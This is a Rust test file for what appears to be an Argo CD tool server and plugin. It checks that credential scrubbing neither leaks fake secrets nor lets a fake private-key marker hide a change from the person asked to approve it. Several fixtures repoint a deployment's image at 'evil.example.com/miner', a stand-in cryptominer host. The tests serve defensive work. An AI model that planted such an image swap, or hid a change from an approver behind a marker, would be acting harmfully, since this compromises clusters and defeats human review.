/// line after a private key's `BEGIN` marker when no `END` follows. A marker that is no key —
/// a comment line `# -----BEGIN RSA PRIVATE KEY-----`, or a quoted note — above the image
/// makes both sides scrub to the same text: the question says the values changed "only where
/// credentials are hidden (not shown)" while the patch points the app at another image.
#[tokio::test]
async fn review13_finding_question_text_change_hidden_by_a_marker() {
    let cases = [
        (
            "comment marker above the image",
            "# -----BEGIN RSA PRIVATE KEY-----\nimage:\n  repository: nginx\n  tag: \"1.25\"\n",
            "# -----BEGIN RSA PRIVATE KEY-----\nimage:\n  repository: evil.example.com/miner\n  tag: \"1.25\"\n",
        ),
        (
            "marker inside a note value",
            "note: \"-----BEGIN PRIVATE KEY-----\"\nreplicas: 2\nimage:\n  repository: nginx\n",
            "note: \"-----BEGIN PRIVATE KEY-----\"\nreplicas: 2\nimage:\n  repository: evil.example.com/miner\n",
        ),
    ];
    let mut missing = Vec::new();
    for (what, before, after) in cases {
        let text = values_question(before, after).await;
        println!("review13 Q1 {what}:\n{text}\n");
        // Shown, or not put to a person at all (a line hidden only by a marker above it).
        let refused = text.contains("a change a person cannot be shown is not put to them");
        if !text.contains("evil.example.com/miner") && !refused {
            missing.push(format!(
                "{what}: the question does not show the new image:\n{text}"
            ));
        }
    }
    assert!(missing.is_empty(), "{}", missing.join("\n"));
}

/// Held: a credential block above the change does not hide a change below it.
#[tokio::test]
async fn review13_question_text_change_below_a_password_block_held() {
    let text = values_question(
        "password: |\n  x\nimage:\n  repository: nginx\n",
        "password: |\n  x\nimage:\n  repository: evil.example.com/miner\n",
    )
    .await;
    assert!(text.contains("evil.example.com/miner"), "{text}");
}

/// What `get_argocd_app_logs` of guestbook showed of `lines` (one log entry each) through both
/// components: the secrets that showed.
async fn leaks_in_logs(lines: &[&str]) -> Vec<String> {
    let world = World::new().await;
    world.standin.state().review_log_lines = lines.iter().map(|l| (*l).to_owned()).collect();
    let server = crate::planting::server_logs(&world).await;
    let plugin = crate::planting::plugin_logs(&plugin_env(&world.standin)).await;
    println!("review13 logs:\n server: {server}\n plugin: {plugin}");
    let mut found = Vec::new();
    for line in lines {
        let s = secret_of(line);
        for (component, answer) in [("server", &server), ("plugin", &plugin)] {
            if answer.contains(s) {
                found.push(format!("{component} get_argocd_app_logs {line:?}: {s}"));
            }
        }
    }
    found
}

/// Held: Vault AppRole's `secret_id` is a credential (the password half of a role), though its name
/// ends in `id`: at the top of a ConfigMap, in a container's env and in a map under a
/// credential key (where keys ending in `Id` are kept as identifiers).
fn vault_secret_ids() -> Vec<LiveShape> {
    vec![
        (
            "V1 ConfigMap entries named like Vault's secret_id",
            config_map(
                "r13-v1",
                json!({"VAULT_SECRET_ID": "R13v01a", "secret_id": "R13v01b", "secretId": "R13v01c"}),
            ),
            &["R13v01a", "R13v01b", "R13v01c"],
        ),
        (
            "V2 env VAULT_SECRET_ID",
            json!({"apiVersion": "apps/v1", "kind": "Deployment",
                   "metadata": {"name": "r13-v2", "namespace": "guestbook"},
                   "spec": {"template": {"spec": {"containers": [{"name": "app", "image": "app:1",
                       "env": [{"name": "VAULT_SECRET_ID", "value": "R13v02a"}]}]}}}}),
            &["R13v02a"],
        ),
        (
            "V3 a map under auth: appRole roleId and secretId",
            json!({"apiVersion": "example.com/v1", "kind": "VaultConnection",
                   "metadata": {"name": "r13-v3", "namespace": "guestbook"},
                   "spec": {"auth": {"appRole": {"roleId": "role-1", "secretId": "R13v03a"}}}}),
            &["R13v03a"],
        ),
    ]
}

#[tokio::test]
async fn review13_vault_secret_ids_held() {
    assert_none(leaks_in_live(&vault_secret_ids()).await);
}

/// Held: Kustomize's `secretGenerator` writes a Secret from its `literals` (`KEY=value`), whatever the
/// keys are named: a kustomization.yaml held in a ConfigMap (as a repo-server plugin or a
/// bootstrap Job takes it), and a Flux-style patch adding a Secret as a strategic merge object.
fn secret_generators() -> Vec<LiveShape> {
    vec![
        (
            "K1 kustomization.yaml text with secretGenerator literals",
            config_map(
                "r13-k1",
                json!({"kustomization.yaml": "resources:\n- deploy.yaml\nsecretGenerator:\n- name: db\n  literals:\n  - conn=R13k01a\n  - DB_URL=postgres://app@db/R13k01b\n"}),
            ),
            &["R13k01a"],
        ),
        (
            "K2 Flux patches: a Secret as a strategic merge object",
            flux(
                "r13-k2",
                json!([{"target": {"kind": "Secret", "name": "db"}, "patch":
                "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\nstringData:\n  conn: R13k02a\n"}]),
            ),
            &["R13k02a"],
        ),
    ]
}

#[tokio::test]
async fn review13_secret_generators_held() {
    assert_none(leaks_in_live(&secret_generators()).await);
}
